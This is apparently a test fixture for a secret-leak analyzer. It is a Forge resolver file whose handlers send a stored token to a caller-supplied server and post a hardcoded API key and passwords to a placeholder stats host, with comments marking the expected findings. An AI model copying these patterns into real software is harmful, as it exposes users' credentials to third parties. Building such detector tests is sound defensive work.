import Resolver from '@forge/resolver';
import { fetch } from '@forge/api';
import { kvs } from '@forge/kvs';

const MAIL_API_KEY = 'k7Qp2Vx9Lm4Rt8Zs1Wd6'; // source: mail // expect: secret-hardcoded
const resolver = new Resolver();
const bearer = (token) => ({ headers: { Authorization: `Bearer ${token}` } });

// The manifest lets it go to several services: whoever calls chooses whose key somebody else gets. Its home, which the
// code names below, stays its home.
resolver.define('probe', async ({ payload }) => {
  const token = await kvs.getSecret('search-token'); // source: token
  await fetch(`${payload.server}/status`, bearer(token)); // expect: secret-egress <- token, egress-user-controlled
});

resolver.define('search', async () => {
  const token = await kvs.getSecret('search-token');
  await fetch('https://search.acme.example/status', bearer(token));
});

// What stands in the source is a secret like any other.
resolver.define('mail', async () => {
  await fetch('https://mail.other.example/send', bearer(MAIL_API_KEY));
  await fetch('https://stats.counter.example/mail', { method: 'POST', body: MAIL_API_KEY }); // expect: secret-egress <- mail, egress-external <- mail
});

// A password goes into the body of its login, and nowhere else.
resolver.define('sign-in', async ({ payload }) => { // source: password
  const body = JSON.stringify({ password: payload.password });
  await fetch('https://login.vendor.example/session', { method: 'POST', body });
  await fetch('https://stats.counter.example/logins', { method: 'POST', body }); // expect: secret-egress <- password, egress-external <- password
});

// Also where another service gets it in a header.
resolver.define('log-in', async () => {
  const password = await kvs.getSecret('password'); // source: stored
  await fetch('https://stats.counter.example/me', bearer(password)); // expect: secret-egress <- stored, egress-external <- stored
  await fetch('https://login.vendor.example/session', { method: 'POST', body: JSON.stringify({ password }) });
});

// Two customers of one host.
resolver.define('hosted', async () => {
  const key = await kvs.getSecret('hosted'); // source: key
  await fetch('https://one.vercel.app/items', bearer(key));
  await fetch('https://two.vercel.app/items', bearer(key)); // expect: secret-egress <- key, egress-external <- key
});

export const handler = resolver.getDefinitions();
